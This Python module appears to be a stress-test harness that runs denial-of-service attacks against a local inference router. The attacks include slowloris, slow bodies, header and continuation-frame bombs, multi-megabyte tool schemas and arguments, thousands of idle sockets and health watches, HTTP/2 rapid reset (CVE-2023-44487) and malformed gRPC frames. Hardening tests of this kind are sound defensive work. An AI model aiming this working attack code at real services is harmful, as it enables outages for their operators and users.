"""The attacks of hostile.py: each is a coroutine that is given a router and how many seconds to attack it, and says what came of it."""

import asyncio
import collections
import json
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00" + bytes(4)
# Kinds of frames of HTTP/2.
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(path="/baton.v1.Inference/Generate"):
    """The head of a gRPC call: literals that no table keeps."""
    pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "content-type": "application/grpc", "te": "trailers"}
    text = lambda word: bytes([len(word)]) + word.encode()
    return b"".join(b"\x00" + text(name) + text(value) for name, value in pairs.items())


async def connect(port):
    return await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 60)


async def until_closed(reader, patience):
    """Reads until the other side closes; the first bytes, and whether it did in time."""
    got, ended = b"", False
    try:
        async with asyncio.timeout(patience):
            while part := await reader.read(1 << 16):
                got = (got + part)[:4096]
            ended = True
    except TimeoutError:
        pass
    except OSError:
        ended = True
    return got, ended


async def many(count, attack):
    """Runs an attack on so many connections at once; says how they ended."""
    ends = collections.Counter()
    async def one(number):
        try:
            ends[await attack(number)] += 1
        except (OSError, TimeoutError) as error:
            ends[type(error).__name__] += 1
    await asyncio.gather(*(one(number) for number in range(count)))
    return ", ".join(f"{count} {end}" for end, count in ends.most_common())


async def as_client(reader, writer, patience):
    """Reads HTTP/2 and answers settings and pings, as any client does, until the other side closes; how often each kind of frame came, whether
    the call goes on, and whether the connection does."""
    kinds, goes_on = collections.Counter(), True
    try:
        async with asyncio.timeout(patience):
            while True:
                head = await reader.readexactly(9)
                kind, flags, payload = head[3], head[4], await reader.readexactly(int.from_bytes(head[:3], "big"))
                kinds[kind] += 1
                goes_on &= not (kind == RST_STREAM or kind in (DATA, HEADERS) and flags & 1)
                if kind in (SETTINGS, PING) and not flags & 1:
                    writer.write(frame(kind, 1, 0, payload if kind == PING else b""))
    except TimeoutError:
        return kinds, goes_on, True
    except (OSError, asyncio.IncompleteReadError):
        return kinds, False, False


def first_line(got):
    return got.split(b"\r\n")[0].decode(errors="replace") if got.startswith(b"HTTP/1.1") else "closed"


async def slowloris(router, seconds):
    """256 connections that send the head of a request a byte a second."""
    async def attack(_):
        reader, writer = await connect(router.http)
        closed = asyncio.create_task(until_closed(reader, seconds))
        writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nx: ")
        for second in range(int(seconds)):
            if closed.done():
                return f"closed within {second} s"
            writer.write(b"a")
            await asyncio.sleep(1)
        closed.cancel()
        return "open at the end"
    return await many(256, attack)


async def slow_bodies(router, seconds):
    """256 connections that announce a body of 8 MB and send 100 bytes a second."""
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 8000000\r\n\r\n{"
    async def attack(_):
        reader, writer = await connect(router.http)
        closed = asyncio.create_task(until_closed(reader, seconds))
        writer.write(head)
        for second in range(int(seconds)):
            if closed.done():
                return f"{first_line(closed.result()[0])} within {second} s"
            writer.write(b" " * 100)
            await asyncio.sleep(1)
        closed.cancel()
        return "open at the end"
    return await many(256, attack)


async def header_bombs(router, seconds):
    """Heads of 1 MB on 8 HTTP connections, of 4 MB in continuations on 8 gRPC connections, again and again."""
    http = b"GET / HTTP/1.1\r\nhost: x\r\n" + b"".join(b"x%d: %s\r\n" % (n, b"a" * 100) for n in range(10_000)) + b"\r\n"
    fields = b"".join(b"\x00\x04" + b"x%03d" % n + b"\x7f\x81\x01" + b"a" * 256 for n in range(61))
    grpc = PREFACE + frame(1, 0, 1, headers()) + frame(9, 0, 1, fields) * 256
    until = time.monotonic() + seconds
    async def attack(number):
        port, bomb, ends = (router.grpc, grpc, set()) if number % 2 else (router.http, http, set())
        while time.monotonic() < until:
            reader, writer = await connect(port)
            writer.write(bomb)
            got, ended = await until_closed(reader, 5)
            ends.add(first_line(got) if ended else "open")
            writer.close()
        return f"{'gRPC' if number % 2 else 'HTTP'}: {' or '.join(sorted(ends))}"
    return await many(16, attack)


async def chats(router, seconds, messages, **more):
    """A chat of at most 8 MB on 8 connections, again and again."""
    body = json.dumps({"model": router.model, "messages": messages, "max_tokens": 64, "stream": True, **more}).encode()
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(body)
    until, total = time.monotonic() + seconds, collections.Counter()
    async def attack(_):
        ends = set()
        while time.monotonic() < until:
            reader, writer = await connect(router.http)
            writer.write(head + body)
            got, ended = await until_closed(reader, 60)
            ends.add(first_line(got) if ended else "no end")
            total["sent"] += 1
            writer.close()
        return " or ".join(sorted(ends))
    return f"{await many(8, attack)}; {total['sent'] / seconds:.1f} a second"


async def large_tools(router, seconds):
    """Chats with a tool whose schema has 8 MB."""
    properties = {f"field{n}": {"type": "string"} for n in range(230_000)}
    tool = {"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": properties}}}
    return await chats(router, seconds, [{"role": "user", "content": "hello"}], tools=[tool])


async def large_arguments(router, seconds):
    """Chats in which the model is said to have called a function with 7 MB of small numbers, which take much more memory once they are parsed."""
    arguments = '{"a":[' + ",".join("0" * 3_500_000) + "]}"
    call = {"id": "call", "type": "function", "function": {"name": "f", "arguments": arguments}}
    messages = [{"role": "user", "content": "hello"}, {"role": "assistant", "tool_calls": [call]},
                {"role": "tool", "tool_call_id": "call", "content": "done"}]
    return await chats(router, seconds, messages)


async def silent(router, seconds):
    """4,096 connections that send nothing to each of the four ports."""
    ports = {"HTTP": router.http, "gRPC": router.grpc, "internal": router.internal, "admin": router.admin}
    names = list(ports)
    async def attack(number):
        name = names[number % 4]
        reader, _ = await connect(ports[name])
        _, closed = await until_closed(reader, seconds)
        return f"{name} {'closed' if closed else 'open at the end'}"
    return await many(4 * 4096, attack)


async def watches(router, seconds):
    """4,096 gRPC connections, each with a Watch of health, which needs no key and does not end."""
    call = PREFACE + frame(HEADERS, 4, 1, headers("/grpc.health.v1.Health/Watch")) + frame(DATA, 1, 1, bytes(5))
    async def attack(_):
        reader, writer = await connect(router.grpc)
        writer.write(call)
        kinds, goes_on, is_open = await as_client(reader, writer, seconds)
        answered = "answered" if kinds[DATA] else "not answered"
        return f"{answered}, {'watching at the end' if goes_on else 'call ended' if is_open else 'closed'}"
    return await many(4096, attack)


async def resets(router, seconds):
    """16 gRPC connections that open calls and reset them at once (CVE-2023-44487)."""
    until, total = time.monotonic() + seconds, collections.Counter()
    async def attack(_):
        while time.monotonic() < until:
            reader, writer = await connect(router.grpc)
            total["connections"] += 1
            writer.write(PREFACE)
            closed, stream = asyncio.create_task(until_closed(reader, seconds)), 1
            while time.monotonic() < until and not closed.done():
                batch = b"".join(frame(1, 4, s, headers()) + frame(3, 0, s, struct.pack(">I", 8)) for s in range(stream, stream + 200, 2))
                stream, total["resets"] = stream + 200, total["resets"] + 100
                writer.write(batch)
                try:
                    await asyncio.wait_for(writer.drain(), 5)
                except (OSError, TimeoutError):
                    break
                await asyncio.sleep(0)
            closed.cancel()
            writer.close()
        return "to the end"
    await many(16, attack)
    return f"{total['resets'] / seconds:,.0f} resets a second; closed {total['connections'] - 16} connections"


async def malformed(router, seconds):
    """16 clients that send to gRPC what is no frame, no message, a wrong length, what is compressed, of no call, of no service, HTTP/1.1."""
    message = lambda payload, compressed=0: bytes([compressed]) + struct.pack(">I", len(payload)) + payload
    call = PREFACE + frame(1, 4, 1, headers())
    cases = [PREFACE + b"\xff" * 64, call + frame(0, 1, 1, message(b"\xff" * 4)), call + frame(0, 1, 1, b"\x00\xff\xff\xff\xff"),
             call + frame(0, 1, 1, message(bytes(9), compressed=1)), PREFACE + frame(0, 1, 77, b"abc"),
             PREFACE + frame(1, 4, 1, headers("/no.such/Call")), PREFACE + frame(1, 4, 2, headers()), b"GET / HTTP/1.1\r\n\r\n" * 4]
    until, total = time.monotonic() + seconds, collections.Counter()
    async def attack(_):
        while time.monotonic() < until:
            for case in cases:
                reader, writer = await connect(router.grpc)
                writer.write(case)
                await until_closed(reader, 0.05)
                writer.close()
                total["sent"] += 1
        return "to the end"
    await many(16, attack)
    return f"{total['sent'] / seconds:,.0f} connections a second"


ATTACKS = {"slowloris": slowloris, "slow bodies": slow_bodies, "header bombs": header_bombs, "tools of 8 MB": large_tools,
           "arguments of 7 MB": large_arguments, "silent sockets": silent, "health watches": watches, "rapid resets": resets,
           "malformed gRPC": malformed}
# A router closes these after 10 s: they last so many seconds at least, so that this is seen.
LEAST = {"slowloris": 12, "slow bodies": 12}
